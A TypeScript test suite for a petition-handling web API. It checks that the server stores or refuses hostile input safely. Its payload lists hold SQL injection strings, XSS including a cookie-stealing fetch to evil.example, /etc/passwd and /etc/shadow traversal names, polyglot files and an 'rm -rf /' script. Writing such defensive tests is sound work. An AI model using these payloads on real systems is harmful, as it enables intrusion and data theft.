/**
 * The hostile-input suite: SQL and script injection in every text field, path traversal in file names,
 * polyglot and oversized uploads, malformed JSON and encodings, huge numbers, wrong content types,
 * other users' ids on every route, replayed idempotency keys and one-time codes. Every case gets a 4xx
 * or a 2xx that stored the input as inert data — never a 500 — and the tables stay intact.
 */
import crypto from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import zlib from 'node:zlib';
import type { LightMyRequestResponse } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { act, cookieOf, databases, newCase, newCaseBody, startTestApp, type TestApp } from '../support/harness.js';
import { createStaff, demoPassword } from '../../src/services/seed.service.js';
import { staffActions } from '../../src/domain/case-state.js';
import { totpAt } from '../../src/security/totp.js';

const HAN = /[\u4e00-\u9fa5]/;

const injections = [
  "'; DROP TABLE case_file; --",
  "' OR '1'='1' --",
  '1; DELETE FROM account WHERE 1=1',
  "1' UNION SELECT token_hash, account_id FROM session --",
  "'); SELECT pg_sleep(3); --",
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror="fetch(`//evil.example/`+document.cookie)">',
  '"><svg/onload=alert(1)>',
  'javascript:alert(1)//',
  '{{constructor.constructor("alert(1)")()}} ${7*7} <%= 7*7 %>',
] as const;

/** A string a text field must accept: real words around the payload, so length rules pass. */
const wrap = (p: string) => `反映问题：${p} 请依法处理，谢谢。`;

interface ErrorBody {
  error: { code: string; message: string };
}

/** A 4xx with the contract's Chinese error body. */
function expect4xx(r: LightMyRequestResponse, label: string): void {
  expect(r.statusCode, `${label}: ${r.body.slice(0, 300)}`).toBeGreaterThanOrEqual(400);
  expect(r.statusCode, `${label}: ${r.body.slice(0, 300)}`).toBeLessThan(500);
  expect(r.json<ErrorBody>().error.message, label).toMatch(HAN);
}

function multipart(filename: string, data: Buffer, contentType = 'image/png'): { payload: Buffer; contentType: string } {
  const boundary = `----xfHostile${crypto.randomBytes(8).toString('hex')}`;
  const head = `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${filename}"\r\nContent-Type: ${contentType}\r\n\r\n`;
  return { payload: Buffer.concat([Buffer.from(head, 'utf8'), data, Buffer.from(`\r\n--${boundary}--\r\n`)]), contentType: `multipart/form-data; boundary=${boundary}` };
}

function png(): Buffer {
  const crcTable = Array.from({ length: 256 }, (_, n) => {
    let c = n;
    for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
    return c >>> 0;
  });
  const crc32 = (buf: Buffer) => {
    let c = 0xffffffff;
    for (const b of buf) c = crcTable[(c ^ b) & 0xff]! ^ (c >>> 8);
    return (c ^ 0xffffffff) >>> 0;
  };
  const chunk = (type: string, data: Buffer) => {
    const len = Buffer.alloc(4);
    len.writeUInt32BE(data.length);
    const td = Buffer.concat([Buffer.from(type, 'ascii'), data]);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crc32(td));
    return Buffer.concat([len, td, crc]);
  };
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(1, 0);
  ihdr.writeUInt32BE(1, 4);
  ihdr[8] = 8;
  ihdr[9] = 6;
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), chunk('IHDR', ihdr), chunk('IDAT', zlib.deflateSync(Buffer.from([0, 1, 2, 3, 255]))), chunk('IEND', Buffer.alloc(0))]);
}

/** Polyglots and disguised files: accepted only when their bytes are an allowed image or PDF, then served inert. */
const polyglots: { name: string; filename: string; data: Buffer; accept: boolean }[] = [
  { name: 'GIF/JavaScript polyglot', filename: 'x.gif', data: Buffer.from("GIF89a/*\x01\x00\x01\x00\x00\x00\x00*/=1;alert(document.domain);//;", 'latin1'), accept: true },
  { name: 'PDF/HTML polyglot', filename: 'x.pdf', data: Buffer.from('%PDF-1.4\n<html><body><script>alert(1)</script></body></html>\n%%EOF\n'), accept: true },
  { name: 'PNG followed by an HTML page', filename: 'x.png', data: Buffer.concat([png(), Buffer.from('<html><script>alert(1)</script></html>')]), accept: true },
  { name: 'HTML named .png', filename: 'photo.png', data: Buffer.from('<!doctype html><script>alert(1)</script>'), accept: false },
  { name: 'SVG with a script', filename: 'x.svg', data: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'), accept: false },
  { name: 'Windows executable named .jpg', filename: 'x.jpg', data: Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200, 0x90)]), accept: false },
  { name: 'ZIP (JAR/DOCX) named .pdf', filename: 'x.pdf', data: Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.alloc(100, 0)]), accept: false },
  { name: 'ELF binary named .png', filename: 'x.png', data: Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46]), Buffer.alloc(100, 0)]), accept: false },
  { name: 'shell script named .gif', filename: 'x.gif', data: Buffer.from('#!/bin/sh\nrm -rf /\n'), accept: false },
];

const traversals = [
  '../../../../etc/passwd.png',
  '..\\..\\..\\windows\\win.ini.png',
  '/etc/shadow.png',
  '%2e%2e%2f%2e%2e%2fapp.png',
  'a/../../b.png',
  '....//....//x.png',
  'x.png\u0000.html',
  '.htaccess',
  `${'很长的文件名'.repeat(60)}.png`,
  '<script>alert(1)</script>.png',
];

describe.each(databases)('hostile input (%s)', (kind) => {
  let t: TestApp;
  let owner: { id: string; queryCode: string; citizen: { cookie: string } };
  let other: string; // another citizen
  let stranger: string; // staff of another county (长安区)
  let docId = '00000000-0000-4000-8000-000000000000';
  let attId = '00000000-0000-4000-8000-000000000001';

  const db = () => t.ctx.store.db;
  const count = async (table: 'case_file' | 'account' | 'session' | 'case_event' | 'attachment') =>
    Number((await db().selectFrom(table).select((eb) => eb.fn.countAll<number>().as('n')).executeTakeFirstOrThrow()).n);
  const footprint = async (id: string) => {
    const r = await db().selectFrom('case_file').select(['state', 'head_hash', 'event_count']).where('id', '=', id).executeTakeFirstOrThrow();
    return { ...r, event_count: Number(r.event_count) };
  };
  const raw = (method: string, url: string, payload: string | Buffer | undefined, contentType: string | undefined, cookie?: string) =>
    t.app.inject({ method: method as 'POST', url, ...(payload !== undefined ? { payload } : {}), headers: { ...(contentType ? { 'content-type': contentType } : {}), ...(cookie ? { cookie } : {}) } });
  const upload = (caseId: string, cookie: string, filename: string, data: Buffer, url = `/api/cases/${caseId}/attachments`) => {
    const m = multipart(filename, data);
    return t.app.inject({ method: 'POST', url, payload: m.payload, headers: { 'content-type': m.contentType, cookie } });
  };

  beforeAll(async () => {
    t = await startTestApp(kind, { env: { XINFANG_MAX_UPLOAD_MB: '1', XINFANG_MAX_ATTACHMENTS: '30' } });
    owner = await newCase(t);
    other = (await t.citizen()).cookie;
    await createStaff(t.ctx, { username: 'ca.acceptor', name: '长安区受理员', unitId: '130102-xfj', roles: ['acceptor', 'dispatcher', 'leader', 'supervisor', 'auditor'], password: demoPassword });
    stranger = await t.staff('ca.acceptor');
    const acc = await act(t, await t.staff('zd.acceptor'), owner.id, 'accept');
    expect(acc.statusCode, acc.body).toBe(200);
    const docs = await t.request('GET', `/api/cases/${owner.id}/documents`, { cookie: owner.citizen.cookie });
    const first = docs.statusCode === 200 ? docs.json<{ items?: { id: string }[] }>().items?.[0] : undefined;
    if (first) docId = first.id;
    const att = await upload(owner.id, owner.citizen.cookie, 'evidence.png', png());
    expect(att.statusCode, att.body).toBe(201);
    attId = att.json<{ id: string }>().id;
  });
  afterAll(async () => {
    await t.close();
  });

  describe('SQL and script injection is stored verbatim as data', () => {
    const fields = ['title', 'content', 'address', 'coPetitioner'] as const;
    it.each(fields.flatMap((f) => injections.map((p) => [f, p] as const)))('submission %s: %s', async (field, p) => {
      const c = await t.citizen();
      const value = field === 'title' ? `标题${p}`.slice(0, 100) : wrap(p);
      const body = field === 'coPetitioner' ? newCaseBody({ coPetitioners: [{ name: p.slice(0, 50) }] }) : newCaseBody({ [field]: value });
      const r = await t.request('POST', '/api/cases', { cookie: c.cookie, body });
      if (field === 'coPetitioner') {
        // A co-petitioner's name must be a real name: the payload is refused, the field named.
        expect4xx(r, 'coPetitioner');
        expect(Object.keys(r.json<{ error: { fields: Record<string, string> } }>().error.fields)).toEqual(['coPetitioners.0.name']);
        expect(await count('case_file')).toBeGreaterThan(0);
        return;
      }
      expect(r.statusCode, r.body).toBe(201);
      const id = r.json<{ id: string }>().id;
      const view = await t.request('GET', `/api/my/cases/${id}`, { cookie: c.cookie });
      expect(view.statusCode).toBe(200);
      expect(view.headers['content-type']).toMatch(/^application\/json/);
      expect(view.headers['x-content-type-options']).toBe('nosniff');
      expect(JSON.parse(view.body)).toBeTruthy();
      if (field === 'title' || field === 'content') {
        const stored = await db().selectFrom('case_file').select([field]).where('id', '=', id).executeTakeFirstOrThrow();
        expect((stored as Record<string, string>)[field]).toBe(value.trim());
        expect(view.json<Record<string, unknown>>()[field]).toBe(value.trim());
      }
      // The tables are intact and still answer.
      expect(await count('case_file')).toBeGreaterThan(1);
      expect(await count('account')).toBeGreaterThan(1);
    });

    it.each(injections.map((p) => [p]))('message text: %s', async (p) => {
      const r = await t.request('POST', `/api/cases/${owner.id}/messages`, { cookie: owner.citizen.cookie, body: { text: p } });
      expect(r.statusCode, r.body).toBe(201);
      const ev = await db().selectFrom('case_event').select('payload').where('case_id', '=', owner.id).where('type', '=', 'message').execute();
      expect(ev.some((e) => (JSON.parse(e.payload) as { text?: string }).text === p)).toBe(true);
    });

    it.each(injections.map((p) => [p]))('staff note and queue search: %s', async (p) => {
      const staff = await t.staff('zd.acceptor');
      const n = await act(t, staff, owner.id, 'note', { text: p });
      expect(n.statusCode, n.body).toBe(200);
      const q = await t.request('GET', `/api/office/cases?q=${encodeURIComponent(p)}`, { cookie: staff });
      expect(q.statusCode, q.body).toBe(200);
      expect(q.json<{ total: number }>().total).toBeGreaterThanOrEqual(0);
    });

    it.each(injections.map((p) => [p]))('login and registration fields: %s', async (p) => {
      expect4xx(await t.request('POST', '/api/auth/login', { body: { login: p, password: p } }), 'login');
      expect4xx(await t.request('POST', '/api/auth/register', { body: { name: p, idNumber: p, phone: p, password: 'Passw0rd!' } }), 'register');
      expect4xx(await t.request('GET', `/api/track/${encodeURIComponent(p)}`), 'track');
      expect(await count('session')).toBeGreaterThan(0);
    });
  });

  describe('uploads', () => {
    it.each(traversals.map((f) => [f]))('path traversal in the file name stays a name: %s', async (filename) => {
      const before = fs.readdirSync(path.dirname(t.ctx.uploadDir));
      const r = await upload(owner.id, owner.citizen.cookie, filename, png());
      expect(r.statusCode, r.body).toBe(201);
      const att = r.json<{ id: string; filename: string }>();
      expect(att.filename).not.toMatch(/[\\/\u0000]/);
      const row = await db().selectFrom('attachment').select(['storage_name']).where('id', '=', att.id).executeTakeFirstOrThrow();
      expect(row.storage_name).toMatch(/^[0-9a-f-]{36}\.png$/);
      expect(fs.existsSync(path.join(t.ctx.uploadDir, row.storage_name))).toBe(true);
      expect(fs.readdirSync(path.dirname(t.ctx.uploadDir))).toEqual(before); // nothing written beside the upload directory
      const dl = await t.request('GET', `/api/cases/${owner.id}/attachments/${att.id}`, { cookie: owner.citizen.cookie });
      expect(dl.headers['content-disposition']).toMatch(/^attachment; filename\*=UTF-8''/);
      expect(dl.headers['content-disposition']).not.toMatch(/[\r\n"]/);
    });

    it.each(polyglots.map((p) => [p.name, p]))('%s', async (_name, p) => {
      const before = await count('attachment');
      const r = await upload(owner.id, owner.citizen.cookie, p.filename, p.data);
      if (!p.accept) {
        expect4xx(r, p.name);
        expect(r.statusCode).toBe(415);
        expect(await count('attachment')).toBe(before);
        return;
      }
      expect(r.statusCode, r.body).toBe(201);
      const { id, mime } = r.json<{ id: string; mime: string }>();
      expect(['image/gif', 'image/png', 'application/pdf']).toContain(mime);
      const dl = await t.request('GET', `/api/cases/${owner.id}/attachments/${id}`, { cookie: owner.citizen.cookie });
      expect(dl.statusCode).toBe(200);
      expect(dl.headers['content-type']).toBe(mime);
      expect(dl.headers['content-disposition']).toMatch(/^attachment;/);
      expect(dl.headers['x-content-type-options']).toBe('nosniff');
      expect(String(dl.headers['content-security-policy'])).toContain("script-src 'self'");
    });

    it.each([
      ['one byte over the cap', () => Buffer.concat([png(), Buffer.alloc(1024 * 1024 + 1 - png().length, 0)])],
      ['three times the cap', () => Buffer.concat([png(), Buffer.alloc(3 * 1024 * 1024, 0x41)])],
    ] as const)('an oversized upload (%s) is 413 and keeps nothing', async (_n, data) => {
      const before = await count('attachment');
      const files = fs.readdirSync(t.ctx.uploadDir).length;
      const r = await upload(owner.id, owner.citizen.cookie, 'big.png', data());
      expect(r.statusCode, r.body).toBe(413);
      expect4xx(r, 'oversized');
      expect(await count('attachment')).toBe(before);
      expect(fs.readdirSync(t.ctx.uploadDir).length).toBe(files);
    });

    it('two files in one request store at most one', async () => {
      const before = await count('attachment');
      const b = `----xfTwo${crypto.randomBytes(4).toString('hex')}`;
      const part = (n: number) => Buffer.concat([Buffer.from(`--${b}\r\nContent-Disposition: form-data; name="file"; filename="a${n}.png"\r\nContent-Type: image/png\r\n\r\n`), png(), Buffer.from('\r\n')]);
      const payload = Buffer.concat([part(1), part(2), Buffer.from(`--${b}--\r\n`)]);
      const r = await t.app.inject({ method: 'POST', url: `/api/cases/${owner.id}/attachments`, payload, headers: { 'content-type': `multipart/form-data; boundary=${b}`, cookie: owner.citizen.cookie } });
      expect(r.statusCode).toBeLessThan(500);
      expect(await count('attachment')).toBeLessThanOrEqual(before + 1);
    });
  });

  describe('malformed JSON and encodings', () => {
    const bodies: [string, Buffer | string, string][] = [
      ['invalid UTF-8 bytes', Buffer.from([0x7b, 0x22, 0x74, 0x69, 0x74, 0x6c, 0x65, 0x22, 0x3a, 0x22, 0xff, 0xfe, 0xc3, 0x28, 0x22, 0x7d]), 'application/json'],
      ['overlong UTF-8 "/" and "<"', Buffer.concat([Buffer.from('{"title":"'), Buffer.from([0xc0, 0xaf, 0xc0, 0xbc, 0xe0, 0x80, 0xaf]), Buffer.from('"}')]), 'application/json'],
      ['UTF-8 BOM before JSON', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(JSON.stringify(newCaseBody({ title: 'BOM 开头的标题' })))]), 'application/json'],
      ['UTF-16LE JSON', Buffer.from(JSON.stringify(newCaseBody()), 'utf16le'), 'application/json; charset=utf-16'],
      ['UTF-16 with BOM', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(JSON.stringify(newCaseBody()), 'utf16le')]), 'application/json'],
      ['lone surrogate escapes', '{"title":"\\ud800\\udc00\\ud800","content":"\\udfff"}', 'application/json'],
      ['NUL bytes in strings', JSON.stringify(newCaseBody({ title: '标题\u0000\u0000尾', content: '内容\u0000'.repeat(5) })), 'application/json'],
      ['deeply nested arrays', `${'['.repeat(5000)}${']'.repeat(5000)}`, 'application/json'],
      ['deeply nested objects', `${'{"a":'.repeat(3000)}1${'}'.repeat(3000)}`, 'application/json'],
      ['duplicate keys', '{"title":"第一个标题","title":"第二个标题","target":"bureau","target":"mailbox:999999"}', 'application/json'],
      ['__proto__ pollution', '{"__proto__":{"admin":true},"constructor":{"prototype":{"admin":true}}}', 'application/json'],
      ['trailing garbage', `${JSON.stringify(newCaseBody())}garbage`, 'application/json'],
      ['JSON with comments', '{/* c */"title":"x"}', 'application/json'],
      ['a charset fastify does not know', JSON.stringify(newCaseBody()), 'application/json; charset=ebcdic'],
    ];
    it.each(bodies)('%s never becomes a 500 on submission, login and actions', async (label, payload, contentType) => {
      const before = await count('case_file');
      const c = await t.citizen();
      const r1 = await raw('POST', '/api/cases', payload, contentType, c.cookie);
      expect(r1.statusCode, `${label}: ${r1.body.slice(0, 200)}`).toBeLessThan(500);
      const r2 = await raw('POST', '/api/auth/login', payload, contentType);
      expect4xx(r2, `${label} login`);
      const r3 = await raw('POST', `/api/office/cases/${owner.id}/actions/note`, payload, contentType, await t.staff('zd.acceptor'));
      expect(r3.statusCode, label).toBeLessThan(500);
      if (r1.statusCode >= 400) {
        expect4xx(r1, label);
        expect(await count('case_file')).toBe(before);
      } else {
        // Accepted: it was a valid body after all; what was stored is what came in.
        expect(await count('case_file')).toBe(before + 1);
      }
      expect(({} as Record<string, unknown>).admin).toBeUndefined();
    });
  });

  describe('NUL characters (PostgreSQL text cannot hold them) are refused alike on both databases', () => {
    const places: [string, () => Promise<LightMyRequestResponse>][] = [
      ['queue search', async () => t.request('GET', '/api/office/cases?q=%00drop', { cookie: await t.staff('zd.acceptor') })],
      ['message text', async () => t.request('POST', `/api/cases/${owner.id}/messages`, { cookie: owner.citizen.cookie, body: { text: '留言\u0000内容' } })],
      ['login name', async () => t.request('POST', '/api/auth/login', { body: { login: 'zd.acceptor\u0000', password: demoPassword } })],
      ['tracking code', async () => t.request('GET', '/api/track/AAAA%00BBBB')],
      ['sunshine search', async () => t.request('GET', '/api/public/sunshine?q=%00')],
      ['object key', async () => raw('POST', '/api/cases', '{"ti\\u0000tle":"x"}', 'application/json', other)],
    ];
    it.each(places)('%s', async (_label, send) => {
      const before = await footprint(owner.id);
      expect4xx(await send(), _label);
      expect(await footprint(owner.id)).toEqual(before);
    });
  });

  describe('huge numbers', () => {
    const numbers = ['1e400', '-1e400', '9007199254740993', '18446744073709551616', '1e-400', '-0', '0x10', 'NaN', 'Infinity', '99999999999999999999999999999999'];
    it.each(numbers.map((n) => [n]))('%s in a query string, an action body and a submission', async (n) => {
      const staff = await t.staff('zd.acceptor');
      expect((await t.request('GET', `/api/office/cases?page=${encodeURIComponent(n)}`, { cookie: staff })).statusCode).toBeLessThan(500);
      expect((await t.request('GET', `/api/office/cases?pageSize=${encodeURIComponent(n)}`, { cookie: staff })).statusCode).toBeLessThan(500);
      expect((await t.request('GET', `/api/security/log?limit=${encodeURIComponent(n)}`, { cookie: staff })).statusCode).toBeLessThan(500);
      const handler = await t.staff('zd.handler');
      const before = await footprint(owner.id);
      const ext = await raw('POST', `/api/office/cases/${owner.id}/actions/request-extension`, `{"days":${/^[\d.e+-]+$/i.test(n) ? n : `"${n}"`},"reason":"需要更多时间核查"}`, 'application/json', handler);
      expect(ext.statusCode).toBeGreaterThanOrEqual(400);
      expect(ext.statusCode).toBeLessThan(500);
      expect(await footprint(owner.id)).toEqual(before);
      const sub = await raw('POST', '/api/cases', `{"target":"bureau","categoryCode":"labour","regionCode":${/^[\d.e+-]+$/i.test(n) ? n : `"${n}"`},"title":"数字测试标题","content":"这是一段用来测试超大数字的内容文字。"}`, 'application/json', other);
      expect4xx(sub, `regionCode ${n}`);
    });
  });

  describe('wrong content types', () => {
    const types = ['text/plain', 'application/xml', 'application/x-www-form-urlencoded', 'text/html', 'application/octet-stream', 'image/png', 'application/javascript', 'multipart/mixed; boundary=x'];
    it.each(types.map((c) => [c]))('%s on JSON routes is refused (415) and on the upload route too', async (ct) => {
      const before = await count('case_file');
      const r = await raw('POST', '/api/cases', JSON.stringify(newCaseBody()), ct, other);
      expect4xx(r, ct);
      expect([400, 415]).toContain(r.statusCode);
      expect4xx(await raw('POST', '/api/auth/login', JSON.stringify({ login: 'zd.acceptor', password: demoPassword }), ct), `${ct} login`);
      expect4xx(await raw('POST', `/api/cases/${owner.id}/attachments`, png(), ct, owner.citizen.cookie), `${ct} upload`);
      expect(await count('case_file')).toBe(before);
    });
    it('JSON on the upload route is 415', async () => {
      expect4xx(await raw('POST', `/api/cases/${owner.id}/attachments`, '{"file":"x"}', 'application/json', owner.citizen.cookie), 'json upload');
    });
  });

  describe("other users' ids on every route", () => {
    const citizenRoutes: [string, string, (id: string) => string, unknown][] = [
      ['GET', 'my case', (id) => `/api/my/cases/${id}`, undefined],
      ['POST', 'message', (id) => `/api/cases/${id}/messages`, { text: '冒充他人留言' }],
      ['POST', 'evaluation', (id) => `/api/cases/${id}/evaluation`, { rating: 'satisfied' }],
      ['POST', 'review request', (id) => `/api/cases/${id}/review-request`, { reason: '冒充他人申请复查' }],
      ['POST', 'confirm receipt', (id) => `/api/cases/${id}/confirm-receipt`, {}],
      ['POST', 'withdraw', (id) => `/api/cases/${id}/withdraw`, {}],
      ['GET', 'attachment download', (id) => `/api/cases/${id}/attachments/${attId}`, undefined],
      ['GET', 'documents', (id) => `/api/cases/${id}/documents`, undefined],
      ['GET', 'document download', (id) => `/api/cases/${id}/documents/${docId}`, undefined],
      ['POST', 'document sign', (id) => `/api/cases/${id}/documents/${docId}/sign`, {}],
    ];
    it.each(citizenRoutes)("another citizen: %s %s on someone else's case is 404/403 and changes nothing", async (method, _label, url, body) => {
      const before = await footprint(owner.id);
      const r = await t.request(method, url(owner.id), { cookie: other, ...(body !== undefined ? { body } : {}) });
      expect4xx(r, url(owner.id));
      expect([403, 404]).toContain(r.statusCode);
      expect(await footprint(owner.id)).toEqual(before);
    });
    it('another citizen cannot upload to someone else’s case', async () => {
      const before = await count('attachment');
      const r = await upload(owner.id, other, 'x.png', png());
      expect([403, 404]).toContain(r.statusCode);
      expect(await count('attachment')).toBe(before);
    });

    const staffRoutes: [string, string, (id: string) => string, unknown][] = [
      ['GET', 'case page', (id) => `/api/office/cases/${id}`, undefined],
      ['GET', 'attachment', (id) => `/api/office/cases/${id}/attachments/${attId}`, undefined],
      ['GET', 'documents', (id) => `/api/office/cases/${id}/documents`, undefined],
      ['GET', 'document', (id) => `/api/office/cases/${id}/documents/${docId}`, undefined],
      ['POST', 'unmask', (id) => `/api/office/cases/${id}/unmask`, { reason: '核实身份需要' }],
      ['GET', 'related', (id) => `/api/office/cases/${id}/related`, undefined],
      ['GET', 'due preview', (id) => `/api/office/cases/${id}/due-preview`, undefined],
      ['GET', 'publication', (id) => `/api/office/cases/${id}/publication`, undefined],
      ['POST', 'publish', (id) => `/api/office/cases/${id}/publish`, {}],
      ['POST', 'unpublish', (id) => `/api/office/cases/${id}/unpublish`, {}],
      ['GET', 'audit events', (id) => `/api/audit/events?caseId=${id}`, undefined],
      ...staffActions.map((a): [string, string, (id: string) => string, unknown] => ['POST', `action ${a}`, (id) => `/api/office/cases/${id}/actions/${a}`, { unitId: '130102-zj', text: '越权操作', reason: '越权操作理由', message: '越权' }]),
    ];
    it.each(staffRoutes)('staff of another county: %s %s is 404/403 and changes nothing', async (method, _label, url, body) => {
      const before = await footprint(owner.id);
      const r = await t.request(method, url(owner.id), { cookie: stranger, ...(body !== undefined ? { body } : {}) });
      expect4xx(r, url(owner.id));
      expect([400, 403, 404]).toContain(r.statusCode);
      expect(await footprint(owner.id)).toEqual(before);
      // A citizen on the same staff route is refused too.
      const c = await t.request(method, url(owner.id), { cookie: owner.citizen.cookie, ...(body !== undefined ? { body } : {}) });
      expect4xx(c, `citizen ${url(owner.id)}`);
    });
    it('staff of another county never see the case in their queue or in bulk actions', async () => {
      const q = await t.request('GET', `/api/office/cases?q=${encodeURIComponent('拖欠工资')}`, { cookie: stranger });
      expect(q.statusCode).toBe(200);
      expect(q.json<{ items: { id: string }[] }>().items.map((i) => i.id)).not.toContain(owner.id);
      const before = await footprint(owner.id);
      const b = await t.request('POST', '/api/office/bulk/accept', { cookie: stranger, body: { caseIds: [owner.id] } });
      expect(b.statusCode).toBeLessThan(500);
      expect(await footprint(owner.id)).toEqual(before);
    });
  });

  describe('replays', () => {
    it('the same Idempotency-Key and body returns the same case; another body under it is 409', async () => {
      const c = await t.citizen();
      const key = `hostile-${crypto.randomBytes(6).toString('hex')}`;
      const a = await t.request('POST', '/api/cases', { cookie: c.cookie, body: newCaseBody(), headers: { 'idempotency-key': key } });
      const b = await t.request('POST', '/api/cases', { cookie: c.cookie, body: newCaseBody(), headers: { 'idempotency-key': key } });
      expect(a.statusCode).toBe(201);
      expect(b.statusCode).toBe(200);
      expect(b.json<{ id: string }>().id).toBe(a.json<{ id: string }>().id);
      const d = await t.request('POST', '/api/cases', { cookie: c.cookie, body: newCaseBody({ title: '完全不同的另一件事' }), headers: { 'idempotency-key': key } });
      expect4xx(d, 'different body');
      expect(d.statusCode).toBe(409);
    });
    it("another citizen replaying someone's Idempotency-Key gets their own case, never the other's", async () => {
      const key = `shared-${crypto.randomBytes(6).toString('hex')}`;
      const a = await t.request('POST', '/api/cases', { cookie: (await t.citizen()).cookie, body: newCaseBody(), headers: { 'idempotency-key': key } });
      const b = await t.request('POST', '/api/cases', { cookie: (await t.citizen()).cookie, body: newCaseBody(), headers: { 'idempotency-key': key } });
      expect(a.statusCode).toBe(201);
      expect(b.statusCode).toBe(201);
      expect(b.json<{ id: string }>().id).not.toBe(a.json<{ id: string }>().id);
    });
    it('ten concurrent replays of one key create one case', async () => {
      const c = await t.citizen();
      const key = `burst-${crypto.randomBytes(6).toString('hex')}`;
      const rs = await Promise.all(Array.from({ length: 10 }, () => t.request('POST', '/api/cases', { cookie: c.cookie, body: newCaseBody(), headers: { 'idempotency-key': key } })));
      for (const r of rs) expect(r.statusCode, r.body).toBeLessThan(500);
      const ids = new Set(rs.filter((r) => r.statusCode < 300).map((r) => r.json<{ id: string }>().id));
      expect(ids.size).toBe(1);
    });
    it('a used TOTP code cannot log in again, and a replayed logout cookie stays dead', async () => {
      await createStaff(t.ctx, { username: 'replay.totp', name: '重放测试', unitId: '130123-xfj', roles: ['acceptor'], password: demoPassword });
      const c = cookieOf(await t.request('POST', '/api/auth/login', { body: { login: 'replay.totp', password: demoPassword } }));
      const { secret } = (await t.request('POST', '/api/me/totp/setup', { cookie: c, body: {} })).json<{ secret: string }>();
      expect((await t.request('POST', '/api/me/totp/enable', { cookie: c, body: { code: totpAt(secret, t.ctx.clock.now()) } })).statusCode).toBe(200);
      t.setNow(new Date(t.ctx.clock.now().getTime() + 30_000).toISOString());
      const code = totpAt(secret, t.ctx.clock.now());
      const first = await t.request('POST', '/api/auth/login', { body: { login: 'replay.totp', password: demoPassword, totp: code } });
      expect(first.statusCode).toBe(200);
      expect4xx(await t.request('POST', '/api/auth/login', { body: { login: 'replay.totp', password: demoPassword, totp: code } }), 'replayed code');
      const s = cookieOf(first);
      expect((await t.request('POST', '/api/auth/logout', { cookie: s })).statusCode).toBe(204);
      expect((await t.request('GET', '/api/me', { cookie: s })).statusCode).toBe(401);
      expect4xx(await t.request('POST', '/api/cases', { cookie: s, body: newCaseBody() }), 'replayed cookie');
    });
  });

  it('after all of it the database is intact and the audit chain verifies', async () => {
    expect(await count('case_file')).toBeGreaterThan(30);
    expect(await count('case_event')).toBeGreaterThan(40);
    const { verifyAll } = await import('../../src/services/audit.service.js');
    const v = await verifyAll(t.ctx);
    expect(v.broken).toEqual([]);
    expect((await t.request('GET', '/api/health')).json()).toMatchObject({ status: 'ok' });
  });
});
